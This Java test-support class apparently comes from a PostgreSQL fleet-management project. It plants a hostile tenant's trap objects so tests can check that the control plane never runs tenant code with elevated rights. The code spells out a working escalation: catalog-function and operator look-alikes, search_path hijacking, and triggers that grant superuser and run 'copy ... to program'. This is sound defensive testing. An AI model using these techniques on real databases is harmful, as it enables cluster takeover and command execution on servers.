package dev.pgfleet.testsupport;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;

/**
 * What a hostile tenant plants in their own database so that pgfleet, if it ran anything there with more than the
 * tenant's rights, would hand them the cluster: one function, {@code public.pgfleet_attack()}, that (a) makes the
 * session's role and the tenant's owner role superuser and (b) runs a program that creates a marker file, each in
 * its own sub-transaction so a refusal does not break the caller; and everything a control-plane query or a restore
 * could reach it through:
 * <ul>
 *   <li>look-alikes of catalog functions ({@code pg_relation_size(oid)}, {@code pg_database_size(name)},
 *   {@code current_database()}, {@code pg_export_snapshot()}, {@code starts_with(text, text)}, {@code concat},
 *   {@code pg_is_in_recovery()}, {@code count(*)} as an aggregate) and operators on {@code oid}, {@code regclass},
 *   {@code name}, {@code text}, {@code bigint}, {@code "char"} and {@code uuid};</li>
 *   <li>{@code ALTER ROLE/DATABASE ... SET search_path = public, pg_catalog}, so the look-alikes win any lookup that
 *   is not pinned;</li>
 *   <li>a CHECK constraint, an index expression, a column default, a materialized view and triggers (one on the
 *   drill probe's table, created before the probe can) that call it.</li>
 * </ul>
 * The objects are planted harmless (the function returns true and does nothing) so that planting them runs nothing;
 * {@link #arm} then swaps in the real body. {@link #proveArmed} is the positive control: it calls the function as a
 * superuser and shows the marker appears, so a test's "no marker" cannot pass because the attack never worked.
 */
public final class TenantAttack {
    private final Path marker;
    private final String owner;

    private TenantAttack(Path marker, String owner) {
        this.marker = marker;
        this.owner = owner;
    }

    /** An attack on behalf of {@code owner}; the marker is a fresh path under /tmp that the data-plane user can write. */
    public static TenantAttack forOwner(String owner) {
        byte[] random = new byte[6];
        ThreadLocalRandom.current().nextBytes(random);
        return new TenantAttack(Path.of("/tmp", "pgfleet-attack-" + HexFormat.of().formatHex(random)), owner);
    }

    public Path marker() {
        return marker;
    }

    /** Whether any planted code ever ran a program. */
    public boolean programRan() {
        return Files.exists(marker);
    }

    public void removeMarker() {
        try {
            Files.deleteIfExists(marker);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Plants everything, harmless for now (I/O, as the tenant, in their database). */
    public void plant(Connection tenant, String database) throws SQLException {
        try (Statement s = tenant.createStatement()) {
            s.execute("set search_path = public, pg_catalog");
            s.execute("create or replace function public.pgfleet_attack() returns boolean language plpgsql as $$ begin return true; end $$");
            for (String sql : lookAlikes()) {
                s.execute(sql);
            }
            s.execute("create table public.guarded (id bigint primary key, note text default public.pgfleet_attack()::text,"
                    + " constraint guarded_check check (public.pgfleet_attack()))");
            s.execute("create function public.pgfleet_attack_immutable(bigint) returns bigint immutable language plpgsql"
                    + " as $$ begin perform public.pgfleet_attack(); return $1; end $$");
            s.execute("create index guarded_expression_idx on public.guarded ((public.pgfleet_attack_immutable(id)))");
            s.execute("create function public.pgfleet_attack_trigger() returns trigger language plpgsql"
                    + " as $$ begin perform public.pgfleet_attack(); return new; end $$");
            s.execute("create trigger guarded_trigger before insert or update on public.guarded for each row"
                    + " execute function public.pgfleet_attack_trigger()");
            s.execute("insert into public.guarded (id) select g from generate_series(1, 100) g");
            s.execute("create materialized view public.attack_view as select public.pgfleet_attack() as fired, count(*) as n"
                    + " from public.guarded");
            // The drill probe creates this table "if not exists": a tenant can be first, with a trigger on it.
            s.execute("create schema if not exists pgfleet_drill");
            s.execute("create table if not exists pgfleet_drill.probe (drill_id uuid not null, seq bigint not null,"
                    + " written_at timestamptz not null default clock_timestamp(), primary key (drill_id, seq))");
            s.execute("create trigger probe_trigger before insert on pgfleet_drill.probe for each row"
                    + " execute function public.pgfleet_attack_trigger()");
            s.execute("alter role " + quote(owner) + " set search_path = public, pg_catalog");
            s.execute("alter database " + quote(database) + " set search_path = public, pg_catalog");
        }
    }

    /** Gives {@code public.pgfleet_attack()} its real body (I/O, as the tenant). */
    public void arm(Connection tenant) throws SQLException {
        try (Statement s = tenant.createStatement()) {
            s.execute("create or replace function public.pgfleet_attack() returns boolean language plpgsql as $body$ begin"
                    + " begin execute pg_catalog.format('alter role %I superuser', current_user); exception when others then null; end;"
                    + " begin execute " + literal("alter role " + quote(owner) + " superuser") + "; exception when others then null; end;"
                    + " begin execute " + literal("copy (select 1) to program 'touch " + marker + "'")
                    + "; exception when others then null; end;"
                    + " return true; end $body$");
        }
    }

    /** Whether the tenant's owner role is a superuser now (I/O, any session in the cluster). */
    public boolean ownerIsSuperuser(Connection any) throws SQLException {
        try (Statement s = any.createStatement();
             var rs = s.executeQuery("select rolsuper from pg_catalog.pg_roles where rolname operator(pg_catalog.=) "
                     + literal(owner))) {
            return rs.next() && rs.getBoolean(1);
        }
    }

    /**
     * The positive control (I/O): the armed function, called by a superuser, makes the owner superuser and runs the
     * program. Callers assert both, then {@link #disarmAfterProof}.
     */
    public void proveArmed(Connection superuser) throws SQLException {
        try (Statement s = superuser.createStatement()) {
            s.execute("select public.pgfleet_attack()");
        }
    }

    /** Undoes the positive control's effects (I/O, as a superuser). */
    public void disarmAfterProof(Connection superuser) throws SQLException {
        try (Statement s = superuser.createStatement()) {
            s.execute("alter role " + quote(owner) + " nosuperuser");
        }
        removeMarker();
    }

    /** Every look-alike: each calls the attack, then does what the real one would, so callers still get answers. */
    private static List<String> lookAlikes() {
        return List.of(
                fn("pg_relation_size(oid)", "bigint", "pg_catalog.pg_relation_size($1::pg_catalog.regclass)"),
                fn("pg_relation_size(regclass)", "bigint", "pg_catalog.pg_relation_size($1)"),
                fn("pg_database_size(name)", "bigint", "pg_catalog.pg_database_size($1)"),
                fn("pg_database_size(oid)", "bigint", "pg_catalog.pg_database_size($1)"),
                fn("current_database()", "name", "pg_catalog.current_database()"),
                fn("pg_export_snapshot()", "text", "pg_catalog.pg_export_snapshot()"),
                fn("pg_is_in_recovery()", "boolean", "pg_catalog.pg_is_in_recovery()"),
                fn("starts_with(text, text)", "boolean", "pg_catalog.starts_with($1, $2)"),
                fn("concat(text, text, text)", "text", "pg_catalog.concat($1, $2, $3)"),
                fn("clock_timestamp()", "timestamptz", "pg_catalog.clock_timestamp()"),
                "create function public.pgfleet_count_step(bigint) returns bigint language plpgsql as $$ begin"
                        + " perform public.pgfleet_attack(); return $1 operator(pg_catalog.+) 1; end $$",
                "create aggregate public.count(*) (sfunc = public.pgfleet_count_step, stype = bigint, initcond = '0')",
                op("=", "oid", "oid"), op("=", "regclass", "regclass"), op("=", "name", "name"), op("<>", "name", "name"),
                op("=", "text", "text"), op("<>", "text", "text"), op("=", "bigint", "bigint"), op("=", "\"char\"", "\"char\""),
                op("=", "uuid", "uuid"), op("=", "name", "text"));
    }

    private static String fn(String signature, String returns, String realCall) {
        return "create function public." + signature + " returns " + returns + " language plpgsql as $$ begin"
                + " perform public.pgfleet_attack(); return " + realCall + "; end $$";
    }

    private static int operators;

    private static synchronized String op(String operator, String left, String right) {
        String function = "public.pgfleet_op_" + (++operators);
        String real = "$1 operator(pg_catalog." + operator + ") $2";
        if ("name".equals(left) && "text".equals(right)) {
            real = "$1::pg_catalog.text operator(pg_catalog." + operator + ") $2";
        }
        return "create function " + function + "(" + left + ", " + right + ") returns boolean language plpgsql as $$ begin"
                + " perform public.pgfleet_attack(); return " + real + "; end $$;"
                + " create operator public." + operator + " (leftarg = " + left + ", rightarg = " + right
                + ", function = " + function + ")";
    }

    private static String quote(String identifier) {
        return "\"" + identifier.replace("\"", "\"\"") + "\"";
    }

    private static String literal(String text) {
        return "'" + text.replace("'", "''") + "'";
    }
}
